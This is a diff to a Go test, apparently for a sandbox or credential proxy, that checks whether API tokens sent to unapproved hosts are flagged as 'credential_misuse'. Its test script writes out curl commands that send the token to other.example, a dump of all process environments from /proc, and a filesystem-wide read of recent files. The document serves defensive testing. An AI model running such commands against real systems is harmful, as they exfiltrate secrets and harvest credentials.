@@ -41,12 +41,13 @@ echo misuse $(curl -sS -H "Authorization: Bearer $API_TOKEN" http://api.example/
 echo elsewhere $(curl -sS -H "X-Key: $API_TOKEN" http://other.example/)
 echo query $(curl -sS "https://api.example/?key=$API_TOKEN")
 echo body $(curl -sS -d "$API_TOKEN" "https://api.example/")
+echo others $(curl -sS -d "$API_TOKEN" "http://other.example/")
 cat /proc/[0-9]*/environ | tr '\0' '\n'
 find / -xdev -readable -type f -size -100k -newermt -1hour -exec cat {} + 2>/dev/null
 true`,
 				"--json", "--allow", "api.example", "--allow", "other.example", "--open", opened, "--env", "REAL*", "--cred", strings.Replace(bound, "env:REAL_TOKEN", source, 1))
 			for _, want := range []string{
-				"bare " + authorised("Bearer "+secret) + "\n", "placeholder " + authorised("Bearer "+secret) + "\n",
+				"body POST api.example /\n", "bare " + authorised("Bearer "+secret) + "\n", "placeholder " + authorised("Bearer "+secret) + "\n",
 				"other " + authorised("") + "\n", "plain " + authorised("") + "\n",
 				"<Bearer " + strings.Repeat("*", len(secret)) + ">\n",
 			} {
@@ -61,7 +62,7 @@ true`,
 					if len(answer) < 30 {
 						t.Errorf("placeholder %q", answer)
 					}
-				case "misuse", "elsewhere", "query", "body":
+				case "misuse", "elsewhere", "query", "others":
 					if !strings.Contains(answer, `"reason":"credential_misuse"`) {
 						t.Errorf("%s: %q", what, answer)
 					}
